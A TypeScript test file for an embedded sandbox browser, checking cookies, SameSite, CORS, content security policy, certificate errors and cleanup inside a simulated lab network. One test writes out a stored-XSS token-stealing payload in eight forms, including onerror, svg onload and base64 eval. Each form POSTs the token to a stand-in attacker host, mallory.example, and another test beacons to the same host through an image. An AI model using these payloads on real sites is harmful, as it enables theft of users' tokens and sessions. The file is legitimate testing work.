// The browser of the embedded engine: what a browser is, over the lab's network, in a page under the site's own policy.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, BrowserAction, BrowserPage } from '../../src/sandbox/browser.ts';
import type { SandboxProcess } from '../../src/sandbox/index.ts';
import { openEnginePage } from './support/engine-page.ts';
import { webHosts, webLabFiles } from './support/web-lab.ts';

/** `src/sandbox/embedded/index.ts`, bundled for the page. */
declare const sandbox: typeof import('../../src/sandbox/embedded/index.ts');

/** What the tests' functions find in the page. */
declare const kit: {
  box: import('../../src/sandbox/index.ts').Sandbox;
  /** Starts a server, and waits until it listens. */
  serve(host: string, certificate?: string): Promise<SandboxProcess>;
  /** What the servers have printed since the last call. */
  served(): string[];
  /** A fresh browser with what it has printed, and what its page was last. */
  browse(): Promise<{ browser: Browser; printed: string[]; page(): BrowserPage; close(): Promise<void> }>;
  /** Resolves when `printed` has a line that begins so. */
  line(printed: string[], start: string): Promise<string>;
};

async function installKit({
  files,
  hosts,
}: {
  files: Record<string, string>;
  hosts: Record<string, string>;
}) {
  const box = await sandbox.bootEmbedded({ hosts });
  await box.mount(files);
  const waiting = new Set<() => void>();
  const collect = async (stream: ReadableStream<string>, into: string[]) => {
    let rest = '';
    for await (const text of stream as unknown as AsyncIterable<string>) {
      const lines = (rest + text).split('\n');
      rest = lines.pop() ?? '';
      into.push(...lines);
      for (const look of waiting) look();
    }
  };
  const said: string[] = [];
  Object.assign(window, {
    kit: {
      box,
      async serve(host: string, certificate = host) {
        const listens = new Promise<void>((resolve) => {
          const stop = box.on('listen', ({ at }) => {
            if (at.host !== host) return;
            stop();
            resolve();
          });
        });
        const process = await box.spawn('node', ['server.js', host, certificate], { host });
        collect(process.stdout, said);
        collect(process.stderr, said);
        await listens;
        return process;
      },
      served: () => said.splice(0),
      async browse() {
        const browser = await box.browse({ name: 'ana', host: 'ana.example', trusts: 'trusted.pem' });
        const printed: string[] = [];
        const collected = collect(browser.output, printed);
        let page: BrowserPage | undefined;
        browser.on('page', (now) => {
          page = now;
        });
        const close = async () => {
          await browser.close();
          await collected;
        };
        return { browser, printed, page: () => page, close };
      },
      line(printed: string[], start: string) {
        return new Promise<string>((resolve) => {
          const look = () => {
            const found = printed.find((each) => each.startsWith(start));
            if (found === undefined) return;
            waiting.delete(look);
            resolve(found);
          };
          waiting.add(look);
          look();
        });
      },
    },
  });
  await Promise.all(
    ['app.tally.example', 'api.tally.example', 'mallory.example'].map((host) => kit.serve(host)),
  );
}

const APP = 'https://app.tally.example:8443';
const LOG_IN: BrowserAction[] = [
  { open: `${APP}/` },
  { fill: { User: 'ana', Password: 'correct horse' }, press: 'Log in' },
];

describe('the browser of the embedded engine', () => {
  let engine: Awaited<ReturnType<typeof openEnginePage>>;

  before(async () => {
    engine = await openEnginePage();
    await engine.page.evaluate(installKit, { files: webLabFiles(), hosts: webHosts });
  });
  after(() => engine.close());

  /** Does it all in a fresh browser; gives what that printed once `until` was, and what the servers saw. */
  async function visit(actions: BrowserAction[], until?: string) {
    const run = async ({ actions, until }: { actions: BrowserAction[]; until?: string }) => {
      const { browser, printed, page, close } = await kit.browse();
      kit.served();
      for (const action of actions) await browser.perform(action);
      if (until) await kit.line(printed, until);
      const last = page();
      await close();
      return {
        printed,
        served: kit.served(),
        page: { ...last, certificates: last.certificates.length },
      };
    };
    return engine.page.evaluate(run, { actions, until });
  }
  const run = (script: string) => ({ open: `${APP}/run?script=${encodeURIComponent(script)}` });

  test('a login: redirects, a form, cookies that scripts do not see', async () => {
    const { printed, served, page } = await visit([...LOG_IN, { press: 'Notes' }]);
    assert.deepEqual(printed, [
      `page: 200 ${APP}/login`,
      'title: Log in',
      'text: User  PasswordLog in',
      `page: 200 ${APP}/`,
      'title: Home',
      'text: Hello, Ana',
      'text: Notes Here',
      `page: 200 ${APP}/notes`,
      'title: Notes',
    ]);
    assert.equal(page.address, `${APP}/notes`);
    assert.equal(page.security, 'secure');
    assert.equal(page.certificates, 2);
    assert.deepEqual(page.cookies.map(({ name }) => name).toSorted(), [
      'deep',
      'none',
      'session',
      'strict',
      'theme',
    ]);
    assert.ok(
      served.some((line) => /^POST \/login .*body=user=ana&password=correct\+horse$/.test(line)),
      served.join('\n'),
    );
  });

  test('document.cookie: not what is HttpOnly, not what lies on another path', async () => {
    const { printed } = await visit([...LOG_IN, { open: `${APP}/cookies` }]);
    assert.ok(printed.includes('text: session=s3cret; strict=1; theme=dark; none=1'), printed.join('\n'));
    assert.ok(printed.includes('text: script sees strict=1; theme=dark; none=1'), printed.join('\n'));
    assert.ok(printed.includes('console: now strict=1; theme=dark; none=1; mine=2'), printed.join('\n'));
  });

  test('SameSite: a link from another site brings Lax, a form and a fetch do not', async () => {
    const link = await visit([...LOG_IN, { open: 'https://mallory.example:8443/link' }, { press: 'Win' }]);
    const last = link.served.findLast((line) => line.startsWith('GET /cookies'));
    assert.match(
      last ?? '',
      /cookie=session=s3cret; theme=dark; none=1 referer=https:\/\/mallory\.example:8443\/ /,
    );
    const fetched = await visit([...LOG_IN, { open: 'https://mallory.example:8443/link' }], 'request:');
    assert.match(fetched.served.find((line) => line.startsWith('GET /cookies')) ?? '', /cookie=none=1 /);
    const form = await visit([...LOG_IN, { open: 'https://mallory.example:8443/link' }, { press: 'Post' }]);
    // `theme` says nothing of SameSite and is younger than two minutes: Lax-allowing-unsafe.
    assert.match(
      form.served.find((line) => line.startsWith('POST /echo')) ?? '',
      /origin=https:\/\/mallory\.example:8443 cookie=theme=dark; none=1 /,
    );
  });

  test('redirects keep or change the method as their status says', async () => {
    for (const [status, expected] of [
      [301, 'GET'],
      [302, 'GET'],
      [303, 'GET'],
      [307, 'POST word=tie'],
      [308, 'POST word=tie'],
    ]) {
      const { printed } = await visit([
        { open: `${APP}/redirecting?status=${status}` },
        { fill: { Word: 'tie' }, press: 'Send' },
      ]);
      assert.deepEqual(printed.slice(-3), [`page: 200 ${APP}/echo`, 'title: Echo', `text: ${expected}`]);
    }
  });

  test('what a page is made of: styles, scripts, images, and where it is', async () => {
    const { printed } = await visit([{ open: `${APP}/parts` }]);
    // The image stands after the scripts: an image that stands before one is there when it is there.
    assert.deepEqual(printed, [
      `page: 200 ${APP}/parts`,
      'title: Parts',
      'text: seen',
      'console: a script of its own',
      'console: where /parts app.tally.example:8443 true',
      'console: image 1',
    ]);
  });

  test('text that is no HTML is shown as it is', async () => {
    const { printed } = await visit([{ open: `${APP}/plain` }]);
    assert.deepEqual(printed.slice(-1), ['text: <b>not bold</b>']);
  });

  test('what cannot be done is said, with what there is', async () => {
    await assert.rejects(
      visit([{ open: `${APP}/login` }, { fill: { Passwort: 'x' }, press: 'Log in' }]),
      /There is no field "Passwort" on .*\/login: it has "User", "Password"/,
    );
    await assert.rejects(
      visit([{ open: `${APP}/login` }, { press: 'Log out' }]),
      /There is no button or link "Log out" on .*: it has "Log in"/,
    );
  });

  test('fetch: what CORS lets pass, and what not', async () => {
    const api = 'https://api.tally.example:8443';
    const { printed, served } = await visit(
      [
        ...LOG_IN,
        run(`(async () => {
          const tell = async (path, options) => {
            try {
              const response = await fetch(path.startsWith('/') ? path : '${api}/' + path, options);
              const { type, status } = response;
              console.log(path, type, status, await response.text(), response.headers.get('x-shown'), response.headers.get('x-secret'));
            } catch (error) { console.log(path, String(error)); }
          };
          await tell('/token');
          await tell('closed');
          await tell('closed', { mode: 'no-cors' });
          await tell('open');
          await tell('open', { credentials: 'include' });
          await tell('personal', { credentials: 'include' });
          await tell('guarded', { method: 'PUT', headers: { 'x-asked': '1' } });
          await tell('guarded', { method: 'DELETE' });
          await tell('away');
          console.log('done');
        })()`),
      ],
      'console: done',
    );
    const own = printed.slice(printed.indexOf('text: ran') + 1);
    assert.deepEqual(own, [
      `request: GET ${APP}/token 200`,
      'console: /token basic 200 {"token":"t0ken"} null null',
      `request: GET ${api}/closed failed cors`,
      'console: closed TypeError: Failed to fetch',
      `request: GET ${api}/closed 200`,
      'console: closed opaque 0  null null',
      `request: GET ${api}/open 200`,
      'console: open cors 200 {"ok":true} y null',
      `request: GET ${api}/open failed cors`,
      'console: open TypeError: Failed to fetch',
      `request: GET ${api}/personal 200`,
      'console: personal cors 200 {"ok":true} null null',
      `request: PUT ${api}/guarded 200`,
      'console: guarded cors 200 {"ok":true} null null',
      `request: DELETE ${api}/guarded failed cors`,
      'console: guarded TypeError: Failed to fetch',
      `request: GET ${api}/away 200`,
      'console: away cors 200 thanks null null',
      'console: done',
    ]);
    const asked = served.filter((line) => / \/guarded /.test(line)).map((line) => line.split(' ')[0]);
    assert.deepEqual(asked, ['OPTIONS', 'PUT', 'OPTIONS']);
    assert.match(served.find((line) => line.startsWith('GET /steal')) ?? '', /origin=null cookie=- /);
  });

  test('XMLHttpRequest, storage and the console', async () => {
    const { printed, page } = await visit(
      [
        run(`localStorage.setItem('a', '1'); localStorage.b = 2; delete localStorage.a;
          const x = new XMLHttpRequest(); x.open('POST', '/echo'); x.setRequestHeader('Content-Type', 'text/plain');
          x.onload = () => { console.log(x.status, x.responseText.includes('POST hi'), Object.keys(localStorage)); nowhere(); };
          x.send('hi');`),
      ],
      'script error:',
    );
    assert.deepEqual(printed.slice(-3), [
      `request: POST ${APP}/echo 200`,
      'console: 200 true Array(1)',
      'script error: Uncaught ReferenceError: nowhere is not defined',
    ]);
    assert.deepEqual(page.storage, { b: '2' });
  });

  test('the policy that a server sends holds', async () => {
    const strict = async (policy: string) => {
      const { printed } = await visit([
        { open: `${APP}/strict?policy=${encodeURIComponent(policy)}` },
        { press: 'Press' },
      ]);
      return printed.filter((line) => line.startsWith('console: ')).map((line) => line.slice(9));
    };
    assert.deepEqual(await strict("script-src 'self'"), []);
    assert.deepEqual(await strict("script-src 'nonce-n1'"), ['nonce']);
    assert.deepEqual(await strict("default-src 'none'"), []);
    assert.deepEqual(await strict("script-src 'unsafe-inline'"), ['nonce', 'inline', 'handler', 'pressed']);
    assert.deepEqual(await strict("script-src 'self' 'unsafe-inline'"), [
      ...['nonce', 'inline', 'a script of its own', 'handler', 'pressed'],
    ]);
  });

  test('a stored XSS really runs, in every form it takes, and tells Mallory', async () => {
    const steal = `fetch('/token').then((r) => r.json()).then(({ token }) => fetch('https://mallory.example:8443/steal', { method: 'POST', body: token, mode: 'no-cors' }))`;
    const notes = [
      `<script>${steal}</script>`,
      `<img src=x onerror="${steal}">`,
      `<svg onload="${steal}">`,
      `<img src=x onerror="eval(atob('${Buffer.from(steal).toString('base64')}'))">`,
      `<script>document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(`<img src=x onerror="${steal}">`)})</script>`,
      `<script>const s = document.createElement('script'); s.textContent = ${JSON.stringify(steal)}; document.body.append(s)</script>`,
      `<script>setTimeout(${JSON.stringify(steal)}, 1)</script>`,
      `<script>new Function(${JSON.stringify(steal)})()</script>`,
    ];
    const script = async ({ actions, notes }: { actions: BrowserAction[]; notes: string[] }) => {
      const { browser, printed, close } = await kit.browse();
      for (const action of actions) await browser.perform(action);
      const stolen = [];
      for (const note of notes) {
        printed.length = 0;
        kit.served();
        await browser.perform({
          open: `https://app.tally.example:8443/run?html=${encodeURIComponent(note)}`,
        });
        await kit.line(printed, 'request: POST https://mallory.example:8443/steal 200');
        stolen.push(kit.served().find((line) => line.startsWith('POST /steal')));
      }
      await close();
      return stolen;
    };
    const stolen = await engine.page.evaluate(script, { actions: LOG_IN, notes });
    assert.equal(stolen.length, notes.length);
    for (const line of stolen)
      assert.match(line ?? '', /origin=https:\/\/app\.tally\.example:8443 cookie=- .*body=t0ken/);
  });

  test('an image tells Mallory, too', async () => {
    const { served } = await visit(
      [
        run(
          `const i = new Image(); i.onerror = () => console.log('no image'); i.src = 'https://mallory.example:8443/steal?' + 'x'`,
        ),
      ],
      'console: no image',
    );
    assert.ok(
      served.some((line) => line.startsWith('GET /steal?x ')),
      served.join('\n'),
    );
  });

  test('a connection that is refused is a page, with Chromium’s word for it', async () => {
    const refused = async (open: string) => {
      const { printed, page } = await visit([{ open }]);
      assert.equal(page.security, 'refused');
      return printed;
    };
    const ana = 'https://ana.example:8443/';
    const serveWith = (certificate: string) =>
      engine.page.evaluate(async (certificate) => {
        const state = window as unknown as { own?: SandboxProcess };
        state.own?.kill();
        await state.own?.exit;
        state.own = await kit.serve('ana.example', certificate);
      }, certificate);
    assert.deepEqual(await refused(ana), [`refused: ERR_CONNECTION_REFUSED ${ana}`]);
    assert.deepEqual(await refused('https://nobody.example/'), [
      'refused: ERR_NAME_NOT_RESOLVED https://nobody.example/',
    ]);
    for (const [certificate, error] of [
      ['foreign', 'ERR_CERT_AUTHORITY_INVALID'],
      ['misnamed', 'ERR_CERT_COMMON_NAME_INVALID'],
      ['expired', 'ERR_CERT_DATE_INVALID'],
    ]) {
      await serveWith(certificate);
      assert.deepEqual(await refused(ana), [`refused: ${error} ${ana}`]);
    }
    await serveWith('ana.example');
    const { printed, page } = await visit([{ open: ana }]);
    assert.deepEqual([printed[0], page.security], [`page: 404 ${ana}`, 'secure']);
  });

  test('back and reload', async () => {
    const printed = await engine.page.evaluate(async () => {
      const { browser, printed, close } = await kit.browse();
      await browser.perform({ open: 'https://app.tally.example:8443/plain' });
      await browser.perform({ open: 'https://app.tally.example:8443/parts' });
      await browser.reload();
      await browser.back();
      await close();
      return printed.filter((line) => line.startsWith('page:'));
    });
    assert.deepEqual(
      printed.map((line) => line.split('/').at(-1)),
      ['plain', 'parts', 'parts', 'plain'],
    );
  });

  test('a script that sets the location takes the page away, and nothing else', async () => {
    const { printed, page } = await visit(
      [run('setTimeout(() => { window["loca" + "tion"] = "https://mallory.example:8443/steal"; })')],
      'console: This pane',
    );
    assert.match(printed.at(-1) ?? '', /does not follow changes of location by scripts/);
    assert.equal(page.loading, false);
    const { printed: told } = await visit([run('location.href = "/plain"; location.assign("/plain")')]);
    assert.equal(told.filter((line) => line.includes('does not follow changes of location')).length, 2);
  });

  test('a place to be shown in: the page goes on where it was', async () => {
    const seen = await engine.page.evaluate(async () => {
      const { browser, printed, close } = await kit.browse();
      const place = document.createElement('div');
      document.body.append(place);
      const script =
        'let count = 0; addEventListener("load", () => fetch("/token").then(() => console.log("count", ++count)))';
      await browser.perform({
        open: `https://app.tally.example:8443/run?script=${encodeURIComponent(script)}`,
      });
      await kit.line(printed, 'console: count');
      browser.attach?.(place);
      const frame = place.querySelector('iframe');
      await browser.perform({ open: 'https://app.tally.example:8443/plain' });
      const next = place.querySelector('iframe');
      const shown = { sandbox: next?.getAttribute('sandbox'), title: next?.title, hidden: next?.ariaHidden };
      await close();
      const counts = printed.filter((line) => line.startsWith('console: count'));
      return {
        counts,
        moved: frame !== null,
        replaced: frame !== next,
        shown,
        left: place.childElementCount,
      };
    });
    assert.deepEqual(seen, {
      counts: ['console: count 1'],
      moved: true,
      replaced: true,
      shown: { sandbox: 'allow-scripts allow-forms', title: `ana: ${APP}/plain`, hidden: null },
      left: 0,
    });
  });

  test('no script outlives close, not even one that never ends', async () => {
    const late = await engine.page.evaluate(async () => {
      const script = (text: string) =>
        `https://app.tally.example:8443/run?script=${encodeURIComponent(text)}`;
      const { browser, printed, close } = await kit.browse();
      await browser.perform({ open: script(`setInterval(() => fetch('/echo?tick'), 1)`) });
      await kit.line(printed, 'request: GET');
      await close();
      // What was on its way has come when a whole page has come after it.
      const visitParts = async () => {
        const other = await kit.browse();
        await other.browser.perform({ open: 'https://app.tally.example:8443/parts' });
        await other.close();
        return kit.served();
      };
      await visitParts();
      const served = await visitParts();

      const endless = await kit.browse();
      const stuck = endless.browser.perform({ open: script('console.log("in"); for (;;) {}') });
      // The script has been asked for, so the page is being made.
      while (!kit.served().some((line) => line.startsWith('GET /run')))
        await new Promise(requestAnimationFrame);
      await endless.close();
      await stuck;
      return { ticks: served.filter((line) => line.includes('tick')), others: served.length };
    });
    assert.deepEqual(late.ticks, []);
    assert.ok(late.others > 3);
  });

  test('nothing is left of a browser that was closed', async () => {
    const left = await engine.page.evaluate(async () => {
      const { browser, page } = await kit.browse();
      await browser.perform({ open: 'https://app.tally.example:8443/cookies' });
      const before = { frames: document.querySelectorAll('iframe').length, cookies: page().cookies.length };
      await browser.close();
      const next = await kit.browse();
      await next.browser.perform({ open: 'https://app.tally.example:8443/cookies' });
      await next.close();
      const text = next.printed.filter((line) => line.startsWith('text:'));
      return { before, frames: document.querySelectorAll('iframe').length, text, page: page() };
    });
    assert.equal(left.before.cookies, 1);
    assert.equal(left.frames, left.before.frames - 1);
    assert.deepEqual(left.text, ['text: none', 'text: script sees']);
    assert.deepEqual([left.page.address, left.page.cookies.length], ['', 0]);
  });
});

test('brought ahead, it opens pages offline', async () => {
  const engine = await openEnginePage();
  try {
    const { page } = engine;
    await page.evaluate(() => sandbox.preload({ browsers: true }));
    await page.evaluate(installKit, { files: webLabFiles(), hosts: webHosts });
    await page.context().setOffline(true);
    const printed = await page.evaluate(async () => {
      const { browser, printed, close } = await kit.browse();
      await browser.perform({ open: 'https://app.tally.example:8443/parts' });
      await close();
      return printed;
    });
    assert.equal(printed[0], `page: 200 ${APP}/parts`);
    assert.equal(printed.at(-1), 'console: image 1');
  } finally {
    await engine.close();
  }
});
